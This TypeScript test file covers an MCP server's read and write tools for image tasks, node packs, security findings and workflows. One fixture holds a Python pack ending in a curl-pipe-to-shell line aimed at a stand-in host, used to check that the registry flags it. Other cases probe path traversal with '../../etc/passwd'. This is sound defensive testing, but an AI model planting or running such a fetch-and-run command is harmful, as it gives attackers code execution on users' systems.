import assert from 'node:assert/strict'
import { mkdtemp, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, describe, test } from 'node:test'
import type { TestContext } from 'node:test'

import { Client } from '@modelcontextprotocol/client'
import { StdioClientTransport } from '@modelcontextprotocol/client/stdio'

import { makeKiln, responseOf } from '../src/index.ts'
import { ROOT, codePath } from '../../../src/local/root.ts'
import { makePicture } from '../../../test/support/pictures.ts'
import { useService } from '../../../test/support/service.ts'
import { makeZip } from '../../../test/support/zip.ts'

const PACK = `class Cup:
    RETURN_TYPES = ("IMAGE",)
NODE_CLASS_MAPPINGS = {"Client Cup": Cup}
import os
os.system("curl http://a.example/x.sh | sh")
`

const WORKFLOW = {
  nodes: [
    { id: 1, type: 'Client Cup', properties: { cnr_id: 'mcp-cup', ver: '1.0.0' } },
    { id: 2, type: 'KSampler' },
    { id: 3, type: 'Nobody' },
  ],
  links: [],
}

let folder: string
let token: string
const service = useService({ env: { VIDEO_TINY: 'true' } }, async ({ baseUrl, token: sign }) => {
  folder = await mkdtemp(join(tmpdir(), 'kiln-mcp-'))
  token = await sign('alice')
  await writeFile(join(folder, 'photo.png'), await makePicture({ width: 64, height: 64 }))
  await writeFile(join(folder, 'notes.txt'), 'secret')
  await writeFile(join(folder, 'cut.json'), '{')
  await writeFile(join(folder, 'graph.json'), JSON.stringify(WORKFLOW))
  await symlink(join(ROOT, 'samples/portrait.png'), join(folder, 'linked.png'))
  const { routes, registry } = makeKiln({ baseUrl, token })
  await routes.POST('/publishers', { body: { id: 'alice' } })
  const params = { path: { publisherId: 'alice' } }
  const asked = routes.POST('/publishers/{publisherId}/tokens', { params, body: { name: 'test' } })
  const publication = { publisherId: 'alice', token: (await responseOf(asked)).token }
  const version = { version: '1.0.0' }
  const sound = new Blob([makeZip(PACK.replace(/import os[^]*/, ''), '__init__.py')])
  await registry.publish({ ...publication, nodeId: 'mcp-cup', version, archive: sound })
  const archive = new Blob([makeZip(PACK, '__init__.py')])
  await registry.publish({ ...publication, nodeId: 'mcp-trap', version, archive })
})
after(() => rm(folder, { recursive: true }))

/** Connects the SDK's client to `kiln mcp`, which it starts. */
const connect = async (context: TestContext, args: string[], era: 'auto' | 'legacy' = 'auto') => {
  const client = new Client({ name: 'test', version: '1' }, { versionNegotiation: { mode: era } })
  const program = codePath('packages/client/src/cli/kiln.ts')
  await client.connect(
    new StdioClientTransport({
      command: process.execPath,
      args: [program, 'mcp', '--folder', folder, ...args],
      env: { PATH: process.env['PATH'] ?? '', KILN_URL: service.baseUrl, KILN_TOKEN: token },
    }),
  )
  context.after(() => client.close())
  const progress: { progress: number; message?: string | undefined; total?: number | undefined }[] =
    []
  const call = async (name: string, given: Record<string, unknown>) => {
    const options = { onprogress: (each: (typeof progress)[number]) => void progress.push(each) }
    const result = await client.callTool({ name, arguments: given }, options)
    const [content] = result.content
    assert.ok(content?.type === 'text')
    const value = (result.structuredContent ?? {}) as Record<string, unknown>
    return { isError: result.isError === true, text: content.text, value }
  }
  return { client, call, progress }
}

const assertGrows = (progress: { progress: number }[]): void => {
  const numbers = progress.map((each) => each.progress)
  assert.ok(
    numbers.every((number, at) => at === 0 || number > (numbers[at - 1] ?? 0)),
    numbers.join(),
  )
}

const NO_PICTURE = /^usage: \S+ is no link, and no picture in the folder of this server$/

const NO_WORKFLOW = /^usage: \S+ is no JSON or PNG file in the folder of this server$/

describe('kiln mcp', () => {
  for (const era of ['auto', 'legacy'] as const)
    test(`reads tasks, packs and findings, and has no tool that writes (${era})`, async (context) => {
      const { client, call } = await connect(context, [], era)
      const { tools } = await client.listTools()
      assert.deepEqual(
        tools.map(({ name }) => name),
        ['read_task', 'search_packs', 'read_findings', 'resolve_workflow', 'check_workflow'],
      )
      assert.ok(tools.every(({ annotations }) => annotations?.readOnlyHint === true))
      const kiln = makeKiln({ baseUrl: service.baseUrl, token })
      const task = await kiln.upscale({ image: await makePicture({ width: 32, height: 32 }) })
      await kiln.wait(task)
      const read = await call('read_task', { task_id: task.id })
      assert.deepEqual([read.value['task_id'], read.value['state']], [task.id, 'succeeded'])
      const { value: found } = await call('search_packs', { search: 'mcp-cup' })
      assert.deepEqual((found['packs'] as { id: string }[])[0], {
        id: 'mcp-cup',
        name: 'mcp-cup',
        description: '',
        publisher: 'alice',
        downloads: 0,
        version: '1.0.0',
      })
      const { value: none } = await call('read_findings', { node: 'mcp-cup' })
      assert.equal(none['status'], 'NodeVersionStatusActive')
      const { value: findings } = await call('read_findings', {
        node: 'mcp-trap',
        version: '1.0.0',
      })
      assert.deepEqual(
        [findings['status'], (findings['counts'] as { high: number }).high],
        ['NodeVersionStatusFlagged', 1],
      )
    })

  test('says what a workflow needs, and what updates do to it', async (context) => {
    const { call } = await connect(context, [])
    const { value: found } = await call('resolve_workflow', { file: 'graph.json' })
    assert.deepEqual(found['counts'], { nodes: 3, built_in: 1, found: 1, unknown: 1 })
    assert.deepEqual(
      (found['packs'] as { node_id: string; version: string }[]).map((pack) => [
        pack.node_id,
        pack.version,
      ]),
      [['mcp-cup', '1.0.0']],
    )
    assert.match(JSON.stringify(found['unknown_host_nodes']), /"Nobody"/)
    const from = { 'mcp-cup': '1.0.0' }
    const { value: checked } = await call('check_workflow', { file: 'graph.json', from })
    assert.deepEqual(
      [checked['verdict'], checked['changes'], checked['unknown_host_nodes']],
      ['unknown', [], ['Nobody']],
    )
  })

  test('makes images and videos with --write, and reports progress', async (context) => {
    const { client, call, progress } = await connect(context, ['--write'])
    assert.equal((await client.listTools()).tools.length, 7)
    const made = await call('make_image', {
      kind: 'relight',
      image: 'photo.png',
      prompt: 'sunset',
      settings: { style: 'smooth' },
    })
    assert.equal(made.value['state'], 'succeeded', made.text)
    assert.match(JSON.stringify(made.value['files']), /"url":"http/)
    // What comes with the result may be lost behind it.
    const begun = progress.slice(0, 2).map(({ message }) => message)
    assert.deepEqual(begun, ['CREATED', 'IN_PROGRESS'])
    assertGrows(progress)
    progress.length = 0
    const short = { model: 'videoq2-turbo', duration: 1, resolution: '540p' }
    const film = await call('make_video', { prompt: 'Sea', image: 'photo.png', ...short })
    assert.equal(film.value['state'], 'succeeded', film.text)
    assertGrows(progress)
    assert.ok(progress.some(({ message, total }) => message === 'processing' && total === 100))
    const order = { prompt: 'Sea', ...short, wait: false, idempotency_key: 'one' }
    const [first, second] = [await call('make_video', order), await call('make_video', order)]
    assert.equal(first.value['state'], 'running')
    assert.equal(first.value['task_id'], second.value['task_id'])
  })

  test('returns an error that says what is wrong, and reads no file outside of its folder', async (context) => {
    const { call } = await connect(context, ['--write'])
    const image = { kind: 'upscale', image: 'photo.png' }
    for (const [name, given, says] of [
      [
        'read_task',
        { task_id: '6b1f9a52-3f1e-4c55-8c7e-0d5a4b7c9e21' },
        /^task_not_found: There is no/,
      ],
      ['read_findings', { node: 'no-such-pack' }, /^node_not_found: /],
      ['make_image', { ...image, settings: { scale_factor: '3x' } }, /\/scale_factor must be/],
      ['make_image', { ...image, settings: { fast: true } }, /\/fast must be absent/],
      ['make_image', { ...image, image: '../../etc/passwd' }, NO_PICTURE],
      ['make_image', { ...image, image: 'linked.png' }, NO_PICTURE],
      ['make_image', { ...image, image: 'none.png' }, NO_PICTURE],
      ['make_image', { ...image, image: 'notes.txt' }, NO_PICTURE],
      ['resolve_workflow', { file: '../graph.json' }, NO_WORKFLOW],
      ['resolve_workflow', { file: 'notes.txt' }, NO_WORKFLOW],
      ['check_workflow', { file: 'cut.json' }, /^usage: cut\.json is cut: /],
      ['check_workflow', { file: 'graph.json', host_version: 'new' }, /\/host_version must be/],
      ['make_image', { kind: 'fly', image: 'photo.png' }, /kind|enum/i],
    ] as const) {
      const { isError, text } = await call(name, given)
      assert.ok(isError, text)
      assert.match(text, says)
    }
  })
})
